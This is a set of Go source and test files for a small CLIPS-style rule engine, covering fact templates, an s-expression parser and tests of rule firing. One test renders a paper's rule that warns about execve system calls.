		return true
	}
	return a == b
}

// FormatValue renders a value CLIPS-style: strings quoted, symbols
// (identifier-looking strings) bare, multifields parenthesized.
func FormatValue(v Value) string {
	switch x := Norm(v).(type) {
	case nil:
		return "nil"
	case string:
		if isSymbol(x) {
			return x
		}
		return fmt.Sprintf("%q", x)
	case []Value:
		parts := make([]string, len(x))
		for i, e := range x {
			parts[i] = FormatValue(e)
		}
		return "(" + strings.Join(parts, " ") + ")"
	default:
		return fmt.Sprint(x)
	}
}

func isSymbol(s string) bool {
	if s == "" {
		return false
	}
	for i, r := range s {
		ok := r == '_' || r == '-' || r == '?' || r == '*' ||
			(r >= 'a' && r <= 'z') || (r >= 'A' && r <= 'Z') ||
			(i > 0 && (r >= '0' && r <= '9'))
		if !ok {
			return false
		}
	}
	return true
}

// SlotDef declares one slot of a template.
type SlotDef struct {
	Name    string
	Multi   bool  // multislot: holds a []Value
	Default Value // used when Assert omits the slot
}

// Template is a deftemplate: a named fact shape.
type Template struct {
	Name  string
	Slots []SlotDef
}

func (t *Template) slot(name string) (*SlotDef, bool) {
	for i := range t.Slots {
		if t.Slots[i].Name == name {
			return &t.Slots[i], true
		}
	}
	return nil, false
}

// Fact is one working-memory element.
type Fact struct {
	ID       int
	Template string
	Slots    map[string]Value
}

// Get returns a slot value.
func (f *Fact) Get(slot string) Value { return f.Slots[slot] }

// Ref renders the fact's identifier CLIPS-style: f-7.
func (f *Fact) Ref() string { return fmt.Sprintf("f-%d", f.ID) }

// String renders the fact CLIPS-style:
// (template (slot value) (slot value)).
func (f *Fact) String() string {
	names := make([]string, 0, len(f.Slots))
	for n := range f.Slots {
		names = append(names, n)
	}
	sort.Strings(names)
	var b strings.Builder
	b.WriteString("(" + f.Template)
	for _, n := range names {
		b.WriteString(fmt.Sprintf(" (%s %s)", n, FormatValue(f.Slots[n])))
	}
	b.WriteString(")")
	return b.String()
}
