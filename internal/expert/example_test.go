package expert_test

import (
	"os"

	"repro/internal/expert"
)

// Example shows the programmatic API: a template, a rule with a
// variable binding, a fact, and a run.
func Example() {
	eng := expert.NewEngine()
	eng.Out = os.Stdout
	eng.DefTemplate(&expert.Template{
		Name:  "alert",
		Slots: []expert.SlotDef{{Name: "host"}, {Name: "severity"}},
	})
	eng.DefRule(&expert.Rule{
		Name: "page-oncall",
		Patterns: []expert.Pattern{
			expert.P("alert",
				expert.S("host", expert.Var("h")),
				expert.S("severity", expert.Lit("critical"))),
		},
		Action: func(ctx *expert.Context, b *expert.Bindings) {
			ctx.Printf("paging for %s\n", b.Str("h"))
		},
	})
	eng.Assert("alert", map[string]expert.Value{"host": "db1", "severity": "critical"})
	eng.Assert("alert", map[string]expert.Value{"host": "web3", "severity": "info"})
	eng.Run(0)
	// Output:
	// FIRE 1 page-oncall: f-1
	// paging for db1
}

// ExampleClips shows the same system expressed in CLIPS text, the
// syntax of the paper's Appendix A.
func ExampleClips() {
	eng := expert.NewEngine()
	eng.Out = os.Stdout
	c := expert.NewClips(eng)
	c.Out = os.Stdout
	err := c.Eval(`
(deftemplate alert (slot host) (slot severity))
(defrule page-oncall
    (alert (host ?h) (severity critical))
    =>
    (printout t "paging for " ?h crlf))
(assert (alert (host db1) (severity critical)))
(run)
`)
	if err != nil {
		panic(err)
	}
	// Output:
	// FIRE 1 page-oncall: f-1
	// paging for db1
	// 1 rules fired
}
