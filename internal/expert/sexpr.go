package expert

import (
	"fmt"
	"strconv"
	"strings"
	"unicode"
)

// sexpr is a parsed CLIPS s-expression node: either an atom (symbol,
// string, or number) or a list.
type sexpr struct {
	atom  bool
	sym   string // symbol text (atoms that are not strings/numbers)
	str   string // string literal
	isStr bool
	num   int64
	isNum bool
	kids  []*sexpr
}

func (s *sexpr) isList() bool { return !s.atom }

// head returns the leading symbol of a list, or "".
func (s *sexpr) head() string {
	if s.isList() && len(s.kids) > 0 && s.kids[0].atom && !s.kids[0].isStr {
		return s.kids[0].sym
	}
	return ""
}

// value converts an atom to an engine Value.
func (s *sexpr) value() Value {
	switch {
	case s.isStr:
		return s.str
	case s.isNum:
		return s.num
	default:
		return s.sym
	}
}

// String renders the node back as CLIPS text.
func (s *sexpr) String() string {
	if s.atom {
		switch {
		case s.isStr:
			return fmt.Sprintf("%q", s.str)
		case s.isNum:
			return fmt.Sprint(s.num)
		default:
			return s.sym
		}
	}
	parts := make([]string, len(s.kids))
	for i, k := range s.kids {
		parts[i] = k.String()
	}
	return "(" + strings.Join(parts, " ") + ")"
}

// parseSexprs parses zero or more top-level forms.
func parseSexprs(src string) ([]*sexpr, error) {
	p := &sparser{src: src}
	var out []*sexpr
	for {
		p.skipSpace()
		if p.eof() {
			return out, nil
		}
		node, err := p.parse()
		if err != nil {
			return nil, err
		}
		out = append(out, node)
	}
}

type sparser struct {
	src string
	pos int
	ln  int
}

func (p *sparser) eof() bool { return p.pos >= len(p.src) }

func (p *sparser) peek() byte { return p.src[p.pos] }

func (p *sparser) skipSpace() {
	for !p.eof() {
		c := p.peek()
		switch {
		case c == ';':
			// Comment to end of line.
			for !p.eof() && p.peek() != '\n' {
				p.pos++
			}
		case c == '\n':
			p.ln++
			p.pos++
		case unicode.IsSpace(rune(c)):
			p.pos++
		default:
			return
		}
	}
}

func (p *sparser) errf(format string, args ...any) error {
	return fmt.Errorf("clips: line %d: %s", p.ln+1, fmt.Sprintf(format, args...))
}

func (p *sparser) parse() (*sexpr, error) {
	p.skipSpace()
	if p.eof() {
		return nil, p.errf("unexpected end of input")
	}
	switch c := p.peek(); {
	case c == '(':
		p.pos++
		node := &sexpr{}
		for {
			p.skipSpace()
			if p.eof() {
				return nil, p.errf("unterminated list")
			}
			if p.peek() == ')' {
				p.pos++
				return node, nil
			}
			kid, err := p.parse()
			if err != nil {
				return nil, err
			}
			node.kids = append(node.kids, kid)
		}
	case c == ')':
		return nil, p.errf("unexpected ')'")
	case c == '"':
		return p.parseString()
	default:
		return p.parseAtom()
	}
}

func (p *sparser) parseString() (*sexpr, error) {
	p.pos++ // opening quote
	var b strings.Builder
	for {
		if p.eof() {
			return nil, p.errf("unterminated string")
		}
		c := p.peek()
		p.pos++
		switch c {
		case '"':
			return &sexpr{atom: true, isStr: true, str: b.String()}, nil
		case '\\':
			if p.eof() {
				return nil, p.errf("dangling escape")
			}
			e := p.peek()
			p.pos++
			switch e {
			case 'n':
				b.WriteByte('\n')
			case 't':
				b.WriteByte('\t')
			case '"':
				b.WriteByte('"')
			case '\\':
				b.WriteByte('\\')
			default:
				return nil, p.errf("unknown escape \\%c", e)
			}
		case '\n':
			p.ln++
			b.WriteByte(c)
		default:
			b.WriteByte(c)
		}
	}
}

func isAtomEnd(c byte) bool {
	return c == '(' || c == ')' || c == '"' || c == ';' || unicode.IsSpace(rune(c))
}

func (p *sparser) parseAtom() (*sexpr, error) {
	start := p.pos
	for !p.eof() && !isAtomEnd(p.peek()) {
		p.pos++
	}
	text := p.src[start:p.pos]
	if n, err := strconv.ParseInt(text, 10, 64); err == nil {
		return &sexpr{atom: true, isNum: true, num: n}, nil
	}
	return &sexpr{atom: true, sym: text}, nil
}
