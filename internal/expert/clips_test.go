package expert

import (
	"bytes"
	"strings"
	"testing"
)

func newClips(t *testing.T) (*Clips, *bytes.Buffer) {
	t.Helper()
	eng := NewEngine()
	var out bytes.Buffer
	eng.Out = &out
	c := NewClips(eng)
	c.Out = &out
	return c, &out
}

func mustEval(t *testing.T, c *Clips, src string) {
	t.Helper()
	if err := c.Eval(src); err != nil {
		t.Fatalf("eval %q: %v", src, err)
	}
}

func TestClipsDeftemplateAndAssert(t *testing.T) {
	c, _ := newClips(t)
	mustEval(t, c, `
(deftemplate person "a person"
    (slot name)
    (slot age (default 0))
    (multislot tags))
(assert (person (name "alice") (age 30) (tags a b)))
`)
	facts := c.Eng.Facts()
	if len(facts) != 1 {
		t.Fatalf("facts = %d", len(facts))
	}
	f := facts[0]
	if f.Get("name") != "alice" || f.Get("age") != int64(30) {
		t.Errorf("fact = %s", f)
	}
	tags, _ := f.Get("tags").([]Value)
	if len(tags) != 2 || tags[0] != "a" {
		t.Errorf("tags = %v", tags)
	}
}

func TestClipsDefaultApplied(t *testing.T) {
	c, _ := newClips(t)
	mustEval(t, c, `
(deftemplate x (slot v (default 7)))
(assert (x))
`)
	if got := c.Eng.Facts()[0].Get("v"); got != int64(7) {
		t.Errorf("default = %v", got)
	}
}

func TestClipsDefruleFires(t *testing.T) {
	c, out := newClips(t)
	mustEval(t, c, `
(deftemplate greeting (slot who))
(defrule hello "greet people"
    (greeting (who ?w))
    =>
    (printout t "Hello " ?w "!" crlf))
(assert (greeting (who "world")))
(run)
`)
	s := out.String()
	if !strings.Contains(s, "Hello world!") {
		t.Errorf("output = %q", s)
	}
	if !strings.Contains(s, "FIRE 1 hello: f-1") {
		t.Errorf("no fire trace: %q", s)
	}
	if !strings.Contains(s, "1 rules fired") {
		t.Errorf("no run summary: %q", s)
	}
}

func TestClipsVariableJoin(t *testing.T) {
	c, out := newClips(t)
	mustEval(t, c, `
(deftemplate parent (slot p) (slot c))
(defrule grandparent
    (parent (p ?a) (c ?b))
    (parent (p ?b) (c ?g))
    =>
    (printout t ?a " is grandparent of " ?g crlf))
(assert (parent (p tom) (c bob)))
(assert (parent (p bob) (c ann)))
(run)
`)
	if !strings.Contains(out.String(), "tom is grandparent of ann") {
		t.Errorf("output = %q", out.String())
	}
}

func TestClipsSalienceAndTest(t *testing.T) {
	c, out := newClips(t)
	mustEval(t, c, `
(deftemplate n (slot v))
(defrule big (declare (salience 10))
    (n (v ?x))
    (test (> ?x 5))
    =>
    (printout t "big " ?x crlf))
(defrule small (declare (salience -10))
    (n (v ?x))
    (test (<= ?x 5))
    =>
    (printout t "small " ?x crlf))
(assert (n (v 3)))
(assert (n (v 9)))
(run)
`)
	s := out.String()
	if !strings.Contains(s, "big 9") || !strings.Contains(s, "small 3") {
		t.Errorf("output = %q", s)
	}
	if strings.Index(s, "big 9") > strings.Index(s, "small 3") {
		t.Error("salience ordering violated")
	}
}

func TestClipsBinderAndRetract(t *testing.T) {
	c, _ := newClips(t)
	mustEval(t, c, `
(deftemplate job (slot state))
(defrule consume
    ?j <- (job (state pending))
    =>
    (retract ?j)
    (assert (job (state done))))
(assert (job (state pending)))
(run)
`)
	facts := c.Eng.Facts()
	if len(facts) != 1 || facts[0].Get("state") != "done" {
		t.Errorf("facts = %v", facts)
	}
}

func TestClipsAssertInActionChains(t *testing.T) {
	c, out := newClips(t)
	mustEval(t, c, `
(deftemplate a (slot v))
(deftemplate b (slot v))
(defrule forward (a (v ?x)) => (assert (b (v ?x))))
(defrule sink (b (v ?x)) => (printout t "got " ?x crlf))
(assert (a (v 42)))
(run)
`)
	if !strings.Contains(out.String(), "got 42") {
		t.Errorf("output = %q", out.String())
	}
}

func TestClipsRetractTopLevelAndFacts(t *testing.T) {
	c, out := newClips(t)
	mustEval(t, c, `
(deftemplate x (slot v))
(assert (x (v 1)))
(assert (x (v 2)))
(retract 1)
(facts)
`)
	s := out.String()
	if strings.Contains(s, "(v 1)") || !strings.Contains(s, "(v 2)") {
		t.Errorf("facts = %q", s)
	}
}

func TestClipsRunLimitAndAgenda(t *testing.T) {
	c, out := newClips(t)
	mustEval(t, c, `
(deftemplate x (slot v))
(defrule r (x (v ?v)) => (printout t "fired" crlf))
(assert (x (v 1)))
(assert (x (v 2)))
(agenda)
(run 1)
(agenda)
`)
	s := out.String()
	if !strings.Contains(s, "2 activation(s)") || !strings.Contains(s, "1 activation(s)") {
		t.Errorf("agenda output = %q", s)
	}
}

func TestClipsReset(t *testing.T) {
	c, _ := newClips(t)
	mustEval(t, c, `
(deftemplate x (slot v))
(assert (x (v 1)))
(reset)
`)
	if len(c.Eng.Facts()) != 0 {
		t.Error("reset did not clear facts")
	}
	// Templates survive reset.
	mustEval(t, c, `(assert (x (v 2)))`)
}

func TestClipsAppendixA2Rule(t *testing.T) {
	// A compact CLIPS rendering of the paper's check_execve (the
	// trusted-binary filtering lives in Go; the textual layer handles
	// the structural match and severity logic via tests).
	c, out := newClips(t)
	mustEval(t, c, `
(deftemplate system_call_access
    (slot system_call_name)
    (slot resource_name)
    (slot resource_origin_type)
    (slot time (default 0))
    (slot frequency (default 0)))
(defrule check_execve "check execve"
    ?execve <- (system_call_access
        (system_call_name SYS_execve)
        (resource_name ?name)
        (resource_origin_type BINARY)
        (time ?time)
        (frequency ?freq))
    =>
    (printout t "Warning [LOW] Found SYS_execve call (" ?name ")" crlf)
    (retract ?execve))
(assert (system_call_access
    (system_call_name SYS_execve)
    (resource_name "/bin/ls")
    (resource_origin_type BINARY)
    (time 33)
    (frequency 1)))
(run)
`)
	s := out.String()
	if !strings.Contains(s, "FIRE 1 check_execve") ||
		!strings.Contains(s, `Warning [LOW] Found SYS_execve call (/bin/ls)`) {
		t.Errorf("output = %q", s)
	}
	if len(c.Eng.Facts()) != 0 {
		t.Error("event fact not retracted")
	}
}

func TestClipsParseErrors(t *testing.T) {
	c, _ := newClips(t)
	cases := []string{
		"(",
		"(deftemplate)",
		"(defrule r (x) (printout))", // missing =>
		"(assert)",
		"(retract x)",
		"(bogus)",
		`(deftemplate t (slot v)) (defrule r (t (v ?x)) => (explode ?x))`,
		"atom-at-top-level",
		"(unterminated \"string)",
	}
	for _, src := range cases {
		if err := c.Eval(src); err == nil {
			t.Errorf("no error for %q", src)
		}
	}
}

func TestClipsComments(t *testing.T) {
	c, _ := newClips(t)
	mustEval(t, c, `
; a comment
(deftemplate x (slot v)) ; trailing
(assert (x (v 1)))
`)
	if len(c.Eng.Facts()) != 1 {
		t.Error("comments broke parsing")
	}
}

func TestSexprRoundTrip(t *testing.T) {
	forms, err := parseSexprs(`(a "str" 42 (nested ?v $?m))`)
	if err != nil {
		t.Fatal(err)
	}
	if got := forms[0].String(); got != `(a "str" 42 (nested ?v $?m))` {
		t.Errorf("round trip = %q", got)
	}
}

func TestClipsEngineInterop(t *testing.T) {
	// Rules defined in Go and facts asserted from CLIPS text interact.
	eng := NewEngine()
	var hits []string
	eng.DefTemplate(&Template{Name: "ev", Slots: []SlotDef{{Name: "what"}}})
	eng.DefRule(&Rule{
		Name:     "go-rule",
		Patterns: []Pattern{P("ev", S("what", Var("w")))},
		Action: func(ctx *Context, b *Bindings) {
			hits = append(hits, b.Str("w"))
		},
	})
	c := NewClips(eng)
	if err := c.Eval(`(assert (ev (what "from-clips"))) (run)`); err != nil {
		t.Fatal(err)
	}
	if len(hits) != 1 || hits[0] != "from-clips" {
		t.Errorf("hits = %v", hits)
	}
}

func TestClipsNotElement(t *testing.T) {
	c, out := newClips(t)
	mustEval(t, c, `
(deftemplate task (slot id))
(deftemplate done (slot id))
(defrule pending
    (task (id ?i))
    (not (done (id ?i)))
    =>
    (printout t "pending " ?i crlf))
(assert (task (id 1)))
(assert (task (id 2)))
(assert (done (id 1)))
(run)
`)
	s := out.String()
	if strings.Contains(s, "pending 1") || !strings.Contains(s, "pending 2") {
		t.Errorf("output = %q", s)
	}
}

func TestSexprEdgeCases(t *testing.T) {
	// Comment at EOF, string escapes, negative-looking symbols.
	forms, err := parseSexprs("(a \"x\\ty\") ; trailing comment")
	if err != nil {
		t.Fatal(err)
	}
	if forms[0].kids[1].str != "x\ty" {
		t.Errorf("escape = %q", forms[0].kids[1].str)
	}
	if _, err := parseSexprs(`("bad escape \q")`); err == nil {
		t.Error("bad escape accepted")
	}
	if _, err := parseSexprs(`)`); err == nil {
		t.Error("stray paren accepted")
	}
	// -5 is not parsed as a number (CLIPS-lite); it stays a symbol.
	forms, err = parseSexprs("(v -5x)")
	if err != nil {
		t.Fatal(err)
	}
	if !forms[0].kids[1].atom || forms[0].kids[1].isNum {
		t.Error("-5x should be a symbol")
	}
}
