package expert

import (
	"bytes"
	"strings"
	"testing"
)

func personTemplate() *Template {
	return &Template{Name: "person", Slots: []SlotDef{
		{Name: "name"},
		{Name: "age"},
		{Name: "tags", Multi: true},
	}}
}

func newTestEngine(t *testing.T) *Engine {
	t.Helper()
	e := NewEngine()
	if err := e.DefTemplate(personTemplate()); err != nil {
		t.Fatal(err)
	}
	return e
}

func TestAssertAndFactString(t *testing.T) {
	e := newTestEngine(t)
	f, err := e.Assert("person", map[string]Value{"name": "alice", "age": 30})
	if err != nil {
		t.Fatal(err)
	}
	if f.ID != 1 || f.Ref() != "f-1" {
		t.Errorf("id = %d", f.ID)
	}
	s := f.String()
	if !strings.Contains(s, "(name alice)") || !strings.Contains(s, "(age 30)") {
		t.Errorf("String = %s", s)
	}
	// Defaults: multislot defaults to empty list.
	if tags, ok := f.Slots["tags"].([]Value); !ok || len(tags) != 0 {
		t.Errorf("tags default = %v", f.Slots["tags"])
	}
}

func TestAssertValidation(t *testing.T) {
	e := newTestEngine(t)
	if _, err := e.Assert("nosuch", nil); err == nil {
		t.Error("undefined template accepted")
	}
	if _, err := e.Assert("person", map[string]Value{"bogus": 1}); err == nil {
		t.Error("undefined slot accepted")
	}
	if _, err := e.Assert("person", map[string]Value{"tags": "notalist"}); err == nil {
		t.Error("scalar in multislot accepted")
	}
}

func TestSimpleRuleFires(t *testing.T) {
	e := newTestEngine(t)
	var fired []string
	err := e.DefRule(&Rule{
		Name:     "adult",
		Patterns: []Pattern{P("person", S("name", Var("n")), S("age", Pred(func(v Value) bool { i, _ := v.(int64); return i >= 18 })))},
		Action: func(ctx *Context, b *Bindings) {
			fired = append(fired, b.Str("n"))
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	e.Assert("person", map[string]Value{"name": "kid", "age": 10})
	e.Assert("person", map[string]Value{"name": "adult1", "age": 30})
	n := e.Run(0)
	if n != 1 || len(fired) != 1 || fired[0] != "adult1" {
		t.Errorf("fired = %v (n=%d)", fired, n)
	}
}

func TestRefraction(t *testing.T) {
	e := newTestEngine(t)
	count := 0
	e.DefRule(&Rule{
		Name:     "count",
		Patterns: []Pattern{P("person")},
		Action:   func(*Context, *Bindings) { count++ },
	})
	e.Assert("person", map[string]Value{"name": "x", "age": 1})
	e.Run(0)
	e.Run(0) // same fact must not fire again
	if count != 1 {
		t.Errorf("count = %d, want 1 (refraction)", count)
	}
	// A new fact fires once more.
	e.Assert("person", map[string]Value{"name": "y", "age": 2})
	e.Run(0)
	if count != 2 {
		t.Errorf("count = %d, want 2", count)
	}
}

func TestVariableJoin(t *testing.T) {
	e := NewEngine()
	e.DefTemplate(&Template{Name: "parent", Slots: []SlotDef{{Name: "p"}, {Name: "c"}}})
	var pairs []string
	e.DefRule(&Rule{
		Name: "grandparent",
		Patterns: []Pattern{
			P("parent", S("p", Var("a")), S("c", Var("b"))),
			P("parent", S("p", Var("b")), S("c", Var("c"))),
		},
		Action: func(ctx *Context, b *Bindings) {
			pairs = append(pairs, b.Str("a")+">"+b.Str("c"))
		},
	})
	e.Assert("parent", map[string]Value{"p": "tom", "c": "bob"})
	e.Assert("parent", map[string]Value{"p": "bob", "c": "ann"})
	e.Assert("parent", map[string]Value{"p": "sue", "c": "joe"})
	e.Run(0)
	if len(pairs) != 1 || pairs[0] != "tom>ann" {
		t.Errorf("pairs = %v", pairs)
	}
}

func TestSalienceOrdersFiring(t *testing.T) {
	e := newTestEngine(t)
	var order []string
	mk := func(name string, sal int) *Rule {
		return &Rule{
			Name:     name,
			Salience: sal,
			Patterns: []Pattern{P("person")},
			Action:   func(*Context, *Bindings) { order = append(order, name) },
		}
	}
	e.DefRule(mk("low", -10))
	e.DefRule(mk("high", 10))
	e.DefRule(mk("mid", 0))
	e.Assert("person", map[string]Value{"name": "x", "age": 1})
	e.Run(0)
	want := "high,mid,low"
	if strings.Join(order, ",") != want {
		t.Errorf("order = %v", order)
	}
}

func TestRetractRemovesActivations(t *testing.T) {
	e := newTestEngine(t)
	count := 0
	e.DefRule(&Rule{
		Name:     "r",
		Patterns: []Pattern{P("person")},
		Action:   func(*Context, *Bindings) { count++ },
	})
	f, _ := e.Assert("person", map[string]Value{"name": "x", "age": 1})
	e.Retract(f.ID)
	e.Run(0)
	if count != 0 {
		t.Error("retracted fact still fired")
	}
	if _, ok := e.Fact(f.ID); ok {
		t.Error("fact still present")
	}
}

func TestActionAssertChains(t *testing.T) {
	e := NewEngine()
	e.DefTemplate(&Template{Name: "a", Slots: []SlotDef{{Name: "v"}}})
	e.DefTemplate(&Template{Name: "b", Slots: []SlotDef{{Name: "v"}}})
	var got []int64
	e.DefRule(&Rule{
		Name:     "a-to-b",
		Patterns: []Pattern{P("a", S("v", Var("x")))},
		Action: func(ctx *Context, b *Bindings) {
			ctx.Assert("b", map[string]Value{"v": b.Int("x") + 1})
		},
	})
	e.DefRule(&Rule{
		Name:     "b-sink",
		Patterns: []Pattern{P("b", S("v", Var("x")))},
		Action: func(ctx *Context, b *Bindings) {
			got = append(got, b.Int("x"))
		},
	})
	e.Assert("a", map[string]Value{"v": 41})
	e.Run(0)
	if len(got) != 1 || got[0] != 42 {
		t.Errorf("got = %v", got)
	}
}

func TestActionRetractPreventsOtherRules(t *testing.T) {
	e := newTestEngine(t)
	var fired []string
	e.DefRule(&Rule{
		Name:     "eater",
		Salience: 10,
		Patterns: []Pattern{PBind("f", "person")},
		Action: func(ctx *Context, b *Bindings) {
			fired = append(fired, "eater")
			ctx.Retract(b.Fact("f").ID)
		},
	})
	e.DefRule(&Rule{
		Name:     "late",
		Salience: 0,
		Patterns: []Pattern{P("person")},
		Action:   func(*Context, *Bindings) { fired = append(fired, "late") },
	})
	e.Assert("person", map[string]Value{"name": "x", "age": 1})
	e.Run(0)
	if strings.Join(fired, ",") != "eater" {
		t.Errorf("fired = %v (late should have lost its activation)", fired)
	}
}

func TestTestsFilterActivations(t *testing.T) {
	e := newTestEngine(t)
	count := 0
	e.DefRule(&Rule{
		Name:     "r",
		Patterns: []Pattern{P("person", S("age", Var("a")))},
		Tests:    []func(*Bindings) bool{func(b *Bindings) bool { return b.Int("a") > 20 }},
		Action:   func(*Context, *Bindings) { count++ },
	})
	e.Assert("person", map[string]Value{"name": "x", "age": 10})
	e.Assert("person", map[string]Value{"name": "y", "age": 30})
	e.Run(0)
	if count != 1 {
		t.Errorf("count = %d", count)
	}
}

func TestFireTraceFormat(t *testing.T) {
	e := newTestEngine(t)
	var out bytes.Buffer
	e.Out = &out
	e.DefRule(&Rule{Name: "check_execve", Patterns: []Pattern{P("person")}})
	e.Assert("person", map[string]Value{"name": "x", "age": 1})
	e.Run(0)
	if got := strings.TrimSpace(out.String()); got != "FIRE 1 check_execve: f-1" {
		t.Errorf("trace output = %q", got)
	}
	tr := e.Trace()
	if len(tr) != 1 || tr[0].Rule != "check_execve" || tr[0].FactIDs[0] != 1 {
		t.Errorf("trace = %+v", tr)
	}
}

func TestRunLimit(t *testing.T) {
	e := newTestEngine(t)
	count := 0
	e.DefRule(&Rule{
		Name:     "r",
		Patterns: []Pattern{P("person")},
		Action:   func(*Context, *Bindings) { count++ },
	})
	for i := 0; i < 5; i++ {
		e.Assert("person", map[string]Value{"name": "x", "age": i})
	}
	if n := e.Run(2); n != 2 || count != 2 {
		t.Errorf("limited run fired %d/%d", n, count)
	}
	if n := e.Run(0); n != 3 {
		t.Errorf("remaining fired %d", n)
	}
}

func TestDefRuleActivatesExistingFacts(t *testing.T) {
	e := newTestEngine(t)
	e.Assert("person", map[string]Value{"name": "x", "age": 1})
	count := 0
	e.DefRule(&Rule{
		Name:     "r",
		Patterns: []Pattern{P("person")},
		Action:   func(*Context, *Bindings) { count++ },
	})
	e.Run(0)
	if count != 1 {
		t.Error("rule did not see pre-existing fact")
	}
}

func TestDuplicateDefinitionsRejected(t *testing.T) {
	e := newTestEngine(t)
	if err := e.DefTemplate(personTemplate()); err == nil {
		t.Error("duplicate template accepted")
	}
	e.DefRule(&Rule{Name: "r", Patterns: []Pattern{P("person")}})
	if err := e.DefRule(&Rule{Name: "r", Patterns: []Pattern{P("person")}}); err == nil {
		t.Error("duplicate rule accepted")
	}
	if err := e.DefRule(&Rule{Name: "r2", Patterns: []Pattern{P("ghost")}}); err == nil {
		t.Error("rule on undefined template accepted")
	}
}

func TestMultifieldMatching(t *testing.T) {
	e := newTestEngine(t)
	var hit bool
	e.DefRule(&Rule{
		Name: "has-binary-tag",
		Patterns: []Pattern{P("person", S("tags", Pred(func(v Value) bool {
			l, _ := v.([]Value)
			for _, e := range l {
				if e == "BINARY" {
					return true
				}
			}
			return false
		})))},
		Action: func(*Context, *Bindings) { hit = true },
	})
	e.Assert("person", map[string]Value{"name": "a", "age": 1, "tags": []Value{"FILE"}})
	e.Run(0)
	if hit {
		t.Error("rule fired on wrong tags")
	}
	e.Assert("person", map[string]Value{"name": "b", "age": 1, "tags": []Value{"FILE", "BINARY"}})
	e.Run(0)
	if !hit {
		t.Error("rule missed BINARY tag")
	}
}

func TestReset(t *testing.T) {
	e := newTestEngine(t)
	count := 0
	e.DefRule(&Rule{
		Name:     "r",
		Patterns: []Pattern{P("person")},
		Action:   func(*Context, *Bindings) { count++ },
	})
	e.Assert("person", map[string]Value{"name": "x", "age": 1})
	e.Run(0)
	e.Reset()
	if len(e.Facts()) != 0 || e.AgendaLen() != 0 || len(e.Trace()) != 0 {
		t.Error("reset incomplete")
	}
	// Rules survive and refraction memory is cleared.
	e.Assert("person", map[string]Value{"name": "x", "age": 1})
	e.Run(0)
	if count != 2 {
		t.Errorf("count after reset = %d", count)
	}
}

func TestEqAndNorm(t *testing.T) {
	if !Eq(int(5), int64(5)) {
		t.Error("int/int64 not equal")
	}
	if !Eq([]Value{"a", int64(1)}, []Value{"a", 1}) {
		t.Error("multifield eq failed")
	}
	if Eq([]Value{"a"}, "a") {
		t.Error("list equals scalar")
	}
	if Eq([]Value{"a"}, []Value{"a", "b"}) {
		t.Error("different lengths equal")
	}
	if got := Norm(uint32(7)); got != int64(7) {
		t.Errorf("Norm(uint32) = %T", got)
	}
	if got, ok := Norm([]string{"x"}).([]Value); !ok || got[0] != "x" {
		t.Error("Norm([]string) failed")
	}
}

func TestFormatValue(t *testing.T) {
	cases := map[string]Value{
		"SYS_execve":    "SYS_execve",
		`"/bin/ls"`:     "/bin/ls",
		"33":            33,
		"(FILE BINARY)": []Value{"FILE", "BINARY"},
	}
	for want, v := range cases {
		if got := FormatValue(v); got != want {
			t.Errorf("FormatValue(%v) = %q, want %q", v, got, want)
		}
	}
}

func TestVarBindsAndConstrains(t *testing.T) {
	b := NewBindings()
	m := Var("x")
	if !m("hello", b) {
		t.Fatal("first bind failed")
	}
	if !m("hello", b) {
		t.Error("same value rejected")
	}
	if m("other", b) {
		t.Error("different value accepted")
	}
}

func TestNotMatcher(t *testing.T) {
	b := NewBindings()
	if Not(Lit("x"))("x", b) {
		t.Error("Not(Lit) matched the literal")
	}
	if !Not(Lit("x"))("y", b) {
		t.Error("Not(Lit) rejected a non-match")
	}
}

func TestNegativePatternBlocks(t *testing.T) {
	e := NewEngine()
	e.DefTemplate(&Template{Name: "task", Slots: []SlotDef{{Name: "id"}}})
	e.DefTemplate(&Template{Name: "done", Slots: []SlotDef{{Name: "id"}}})
	var fired []int64
	e.DefRule(&Rule{
		Name: "pending",
		Patterns: []Pattern{
			P("task", S("id", Var("i"))),
			PNot("done", S("id", Var("i"))),
		},
		Action: func(ctx *Context, b *Bindings) {
			fired = append(fired, b.Int("i"))
		},
	})
	e.Assert("task", map[string]Value{"id": 1})
	e.Assert("task", map[string]Value{"id": 2})
	e.Assert("done", map[string]Value{"id": 1})
	e.Run(0)
	if len(fired) != 1 || fired[0] != 2 {
		t.Errorf("fired = %v, want [2]", fired)
	}
}

func TestNegativePatternDefeatedBeforeFire(t *testing.T) {
	// A fact asserted after activation but before firing defeats the
	// not-element.
	e := NewEngine()
	e.DefTemplate(&Template{Name: "task", Slots: []SlotDef{{Name: "id"}}})
	e.DefTemplate(&Template{Name: "done", Slots: []SlotDef{{Name: "id"}}})
	count := 0
	e.DefRule(&Rule{
		Name: "pending",
		Patterns: []Pattern{
			P("task", S("id", Var("i"))),
			PNot("done", S("id", Var("i"))),
		},
		Action: func(*Context, *Bindings) { count++ },
	})
	e.Assert("task", map[string]Value{"id": 1})
	// The activation exists now; defeat it before running.
	e.Assert("done", map[string]Value{"id": 1})
	e.Run(0)
	if count != 0 {
		t.Errorf("defeated activation fired %d times", count)
	}
}

func TestNegativePatternReenabledByRetract(t *testing.T) {
	e := NewEngine()
	e.DefTemplate(&Template{Name: "task", Slots: []SlotDef{{Name: "id"}}})
	e.DefTemplate(&Template{Name: "done", Slots: []SlotDef{{Name: "id"}}})
	count := 0
	e.DefRule(&Rule{
		Name: "pending",
		Patterns: []Pattern{
			P("task", S("id", Var("i"))),
			PNot("done", S("id", Var("i"))),
		},
		Action: func(*Context, *Bindings) { count++ },
	})
	e.Assert("task", map[string]Value{"id": 1})
	blocker, _ := e.Assert("done", map[string]Value{"id": 1})
	e.Run(0)
	if count != 0 {
		t.Fatal("fired while blocked")
	}
	e.Retract(blocker.ID)
	e.Run(0)
	if count != 1 {
		t.Errorf("retract did not re-enable the not-element (count=%d)", count)
	}
}

func TestNegativePatternOnlyRule(t *testing.T) {
	// A rule whose only positive pattern is preceded by a not on an
	// empty template fires normally.
	e := NewEngine()
	e.DefTemplate(&Template{Name: "x", Slots: []SlotDef{{Name: "v"}}})
	e.DefTemplate(&Template{Name: "inhibit", Slots: []SlotDef{{Name: "v"}}})
	count := 0
	e.DefRule(&Rule{
		Name: "r",
		Patterns: []Pattern{
			PNot("inhibit"),
			P("x"),
		},
		Action: func(*Context, *Bindings) { count++ },
	})
	e.Assert("x", map[string]Value{"v": 1})
	e.Run(0)
	if count != 1 {
		t.Errorf("count = %d", count)
	}
}
