package guestlib

import (
	"strings"
	"testing"

	"repro/internal/asm"
	"repro/internal/isa"
	"repro/internal/vos"
)

